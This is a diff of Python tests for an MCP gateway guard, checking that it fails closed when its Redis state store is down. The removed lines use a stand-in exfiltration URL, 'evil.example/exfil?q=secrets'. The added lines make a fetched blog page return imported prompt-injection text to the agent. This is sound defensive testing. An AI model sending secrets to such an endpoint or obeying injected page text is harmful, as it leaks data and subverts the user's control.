@@ -16,15 +16,15 @@ from typing import Any
 import httpx
 from mcp import Client
 
+from demo_upstream.data import INJECTION_TEXT
 from tests.guard.redis_proc import RedisProcess
 from tests.guard.test_approval_flow import e2e_policy
 from tests.support import MCP_HEADERS, demo_http_cmd, free_port, gateway_cmd, initialize, running, write_config
 
-OUTSIDE = {"url": "https://evil.example/exfil?q=secrets"}  # U+E: the URL itself leaves the organisation
+OUTSIDE = {"url": "https://blog.vendor.example/post/ai-tips"}  # U+E: the URL itself leaves the organisation
 INSIDE = {"url": "https://status.example.com/"}  # allowlisted: no legs, a plain read
 STORE_DOWN = "Denied by policy: the state store is unreachable: failing closed"
-NOT_REACHABLE = ("Error executing tool fetch_url: fetch failed: https://evil.example/exfil?q=secrets is not reachable "
-                 "from the demo workspace")  # the upstream's own error result: the call ran
+BLOG = "Ten tips for working with AI assistants. Tip 7: " + INJECTION_TEXT  # the page: the call ran
 
 
 def config(tmp: Path, name: str, port: int, upstream_port: int, redis_url: str, reads: str = "allow") -> Path:
@@ -58,7 +58,7 @@ async def test_warm_session_refused_e_legs_while_redis_is_stopped_and_runs_when_
         with running(gateway_cmd(cfg), f"{base}/readyz"):
             async with Client(f"{base}/mcp", mode="legacy") as agent:
                 for _ in range(3):  # warm: legs U+E, first use and pin cached
-                    assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == NOT_REACHABLE
+                    assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == BLOG
                 redis.stop()
                 refused = await agent.call_tool("demo__fetch_url", OUTSIDE)
                 assert (refused.is_error, text(refused)) == (True, STORE_DOWN)
@@ -66,7 +66,7 @@ async def test_warm_session_refused_e_legs_while_redis_is_stopped_and_runs_when_
                 assert (read.is_error, text(read)) == (False, "All systems operational.")
                 redis.start()  # the same port and append-only file: nothing recorded is lost
                 wait_ready(base)
-                assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == NOT_REACHABLE
+                assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == BLOG
 
 
 async def test_warm_session_refused_while_redis_is_frozen_reads_too_when_so_configured(tmp_path: Path) -> None:
@@ -77,7 +77,7 @@ async def test_warm_session_refused_while_redis_is_frozen_reads_too_when_so_conf
         with running(gateway_cmd(cfg), f"{base}/readyz"):
             async with Client(f"{base}/mcp", mode="legacy") as agent:
                 for _ in range(3):
-                    assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == NOT_REACHABLE
+                    assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == BLOG
                     assert text(await agent.call_tool("demo__fetch_url", INSIDE)) == "All systems operational."
                 redis.freeze()  # SIGSTOP: connections open, no answers; the store timeout applies
                 try:
@@ -88,7 +88,7 @@ async def test_warm_session_refused_while_redis_is_frozen_reads_too_when_so_conf
                 finally:
                     redis.thaw()
                 wait_ready(base)
-                assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == NOT_REACHABLE
+                assert text(await agent.call_tool("demo__fetch_url", OUTSIDE)) == BLOG
 
 
 def raw_call(http: httpx.Client, url: str, sid: str, tool: str, args: dict[str, Any]) -> dict[str, Any]:
